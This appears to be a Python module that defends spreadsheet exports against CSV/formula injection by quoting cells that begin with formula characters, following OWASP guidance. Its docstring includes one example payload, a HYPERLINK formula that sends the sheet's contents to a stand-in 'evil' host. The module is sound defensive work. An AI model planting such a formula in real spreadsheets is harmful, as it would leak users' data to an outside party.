"""One rule for every spreadsheet cell Waybill writes (CSV or XLSX, API or console): text that a
spreadsheet program would read as a formula is made inert.

OWASP's CSV-injection guidance: a cell starting with `=`, `+`, `-`, `@`, tab or carriage return
may be run as a formula when the file is opened (`=HYPERLINK("http://evil/?"&A1)` sends the
sheet's data away), so such text gets a leading single quote and stays text. Numbers are left as
numbers: a negative amount is a number cell, not text, and cannot carry a formula.
"""

from __future__ import annotations

from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def inert(value: Any) -> Any:
    """`value` as a cell that cannot run: formula-like text quoted, anything else unchanged."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value
